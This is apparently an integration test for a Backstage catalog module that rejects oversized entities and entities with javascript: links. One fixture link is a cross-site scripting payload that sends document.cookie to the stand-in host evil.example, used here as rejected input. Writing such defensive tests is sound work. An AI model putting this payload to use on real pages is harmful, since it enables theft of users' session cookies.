/*
 * The real catalog backend with this module, on SQLite and PostgreSQL: an oversized entity and
 * one with a javascript: link are never served and their processing errors say why; a normal
 * entity is served; a file that grows over the limit keeps its last good version served with
 * the error on it. The limit comes from strata.catalog.maxEntityBytes.
 */
/* eslint-disable no-script-url -- a script URL is the input under test */
import {
  mockCredentials,
  mockServices,
  startTestBackend,
  TestDatabases,
} from '@backstage/backend-test-utils';
import { Entity, stringifyEntityRef } from '@backstage/catalog-model';
import { AlphaEntity } from '@backstage/catalog-model/alpha';
import catalogPlugin from '@backstage/plugin-catalog-backend';
import {
  catalogErrorsSpy,
  CatalogErrorEvent,
  waitFor,
} from '@internal/backend-test-kit';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import request from 'supertest';
import entityGuardsModule from './index';

const LIMIT = 128 * 1024;

function componentYaml(
  name: string,
  options: { description?: string; links?: string[] } = {},
) {
  const links = options.links
    ? `  links:\n${options.links.map(url => `    - url: "${url}"\n`).join('')}`
    : '';
  return `apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: ${name}
  description: ${options.description ?? `the ${name} service`}
${links}spec:
  type: service
  lifecycle: production
  owner: group:default/platform
`;
}

const errorsOf = (entity: Entity) =>
  ((entity as AlphaEntity).status?.items ?? [])
    .filter(item => item.level === 'error')
    .map(item => item.message);

const databases = TestDatabases.create({ ids: ['SQLITE_3', 'POSTGRES_15'] });

describe.each(databases.eachSupportedId())(
  'entity guards in the catalog on %s',
  databaseId => {
    let dir: string;

    beforeEach(() => {
      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'entity-guards-'));
    });

    afterEach(() => {
      fs.rmSync(dir, { recursive: true, force: true });
    });

    it('serves the normal entity, never the oversized or javascript: ones, and keeps the last good version', async () => {
      const entry = path.join(dir, 'catalog-info.yaml');
      const hugeFile = path.join(dir, 'huge.yaml');
      const scriptFile = path.join(dir, 'script.yaml');
      const growingFile = path.join(dir, 'growing.yaml');
      fs.writeFileSync(
        entry,
        `apiVersion: backstage.io/v1alpha1
kind: Location
metadata:
  name: fixture
spec:
  targets: [./normal.yaml, ./huge.yaml, ./script.yaml, ./growing.yaml]
`,
      );
      fs.writeFileSync(
        path.join(dir, 'normal.yaml'),
        componentYaml('normal', { links: ['https://normal.example/runbook'] }),
      );
      fs.writeFileSync(
        hugeFile,
        componentYaml('huge', { description: 'x'.repeat(2 * 1024 * 1024) }),
      );
      fs.writeFileSync(
        scriptFile,
        componentYaml('script', {
          links: ['javascript:fetch(`//evil.example/?c=${document.cookie}`)'],
        }),
      );
      fs.writeFileSync(
        growingFile,
        componentYaml('growing', { description: 'first version' }),
      );

      const errorEvents: CatalogErrorEvent[] = [];
      const knex = await databases.init(databaseId);
      const { server } = await startTestBackend({
        features: [
          catalogPlugin,
          entityGuardsModule,
          catalogErrorsSpy(errorEvents),
          mockServices.database.factory({ knex }),
          mockServices.rootConfig.factory({
            data: {
              strata: { catalog: { maxEntityBytes: LIMIT } },
              catalog: {
                processingInterval: { seconds: 1 },
                rules: [{ allow: ['Component', 'Location'] }],
                locations: [{ type: 'file', target: entry }],
              },
            },
          }),
        ],
      });

      const get = (url: string) =>
        request(server)
          .get(url)
          .set('Authorization', mockCredentials.user.header());
      const entity = async (name: string) => {
        const res = await get(
          `/api/catalog/entities/by-name/component/default/${name}`,
        );
        return res.status === 200 ? (res.body as Entity) : undefined;
      };
      const errorEvent = (name: string) =>
        waitFor(
          async () =>
            errorEvents.find(e => e.entity === `component:default/${name}`),
          `processing error of ${name}`,
        );
      /** What `/api/catalog/unprocessed/failed` would list (that module is not installed). */
      const storedErrors = async (name: string): Promise<string[]> => {
        const row = await knex('refresh_state')
          .where({ entity_ref: `component:default/${name}` })
          .first('errors');
        return row?.errors
          ? JSON.parse(row.errors).map((e: Error) => e.message)
          : [];
      };

      // 1. The normal entity and the first version of the growing one are served, without errors.
      const normal = await waitFor(() => entity('normal'), 'normal entity');
      expect(errorsOf(normal)).toEqual([]);
      expect(normal.metadata.links).toEqual([
        { url: 'https://normal.example/runbook' },
      ]);
      const first = await waitFor(() => entity('growing'), 'growing entity');
      expect(first.metadata.description).toBe('first version');

      // 2. The 2 MB entity: a processing error with its size, the limit and the key to change ...
      const huge = await errorEvent('huge');
      expect(huge.location).toBe(`file:${hugeFile}`);
      expect(huge.errors.map(e => e.message)).toEqual([
        expect.stringMatching(
          new RegExp(
            `component:default/huge in file:${hugeFile} is 2,097,[0-9]{3} bytes \\(2,048\\.[0-9] KiB\\) as JSON, ` +
              `over the catalog's limit of 131,072 bytes \\(128 KiB\\)\\. .*raise strata\\.catalog\\.maxEntityBytes`,
          ),
        ),
      ]);
      expect(await storedErrors('huge')).toEqual([
        expect.stringContaining("over the catalog's limit of 131,072 bytes"),
      ]);
      // ... and it is not served.
      expect(await entity('huge')).toBeUndefined();

      // 3. The javascript: link: a processing error naming the field, and not served.
      const script = await errorEvent('script');
      expect(script.location).toBe(`file:${scriptFile}`);
      expect(script.errors.map(e => e.message)).toEqual([
        expect.stringContaining(
          `component:default/script in file:${scriptFile} has unsafe links (rule unsafe-link): ` +
            'metadata.links[0].url is a javascript: URL (fix: Script URLs are a cross-site scripting risk',
        ),
      ]);
      expect(await storedErrors('script')).toEqual([
        expect.stringContaining('metadata.links[0].url is a javascript: URL'),
      ]);
      expect(await entity('script')).toBeUndefined();

      // Every list holds only the good entities, and stays small.
      const list = await get('/api/catalog/entities?filter=kind=component');
      expect(list.status).toBe(200);
      expect(
        (list.body as Entity[]).map(e => stringifyEntityRef(e)).sort(),
      ).toEqual(['component:default/growing', 'component:default/normal']);
      expect(list.text.length).toBeLessThan(LIMIT);
      expect(errorEvents.map(e => e.entity)).not.toContain(
        'component:default/normal',
      );

      // 4. The growing file goes over the limit: the error shows on the entity, the last good
      // version stays served.
      fs.writeFileSync(
        growingFile,
        componentYaml('growing', { description: 'y'.repeat(200 * 1024) }),
      );
      const stale = await waitFor(async () => {
        const e = await entity('growing');
        return e && errorsOf(e).length > 0 ? e : undefined;
      }, 'processing error on growing');
      expect(errorsOf(stale)).toEqual([
        expect.stringMatching(
          new RegExp(
            `component:default/growing in file:${growingFile} is 20[0-9],[0-9]{3} bytes \\(200\\.[0-9] KiB\\) as JSON, ` +
              `over the catalog's limit of 131,072 bytes \\(128 KiB\\)\\. .*raise strata\\.catalog\\.maxEntityBytes`,
          ),
        ),
      ]);
      expect(stale.metadata.description).toBe('first version');
      expect(errorsOf((await entity('normal'))!)).toEqual([]);

      // 5. Back under the limit: the new version is served and the error is gone.
      fs.writeFileSync(
        growingFile,
        componentYaml('growing', { description: 'third version' }),
      );
      const fixed = await waitFor(async () => {
        const e = await entity('growing');
        return e?.metadata.description === 'third version' ? e : undefined;
      }, 'fixed growing entity');
      expect(errorsOf(fixed)).toEqual([]);
    }, 120_000);
  },
);
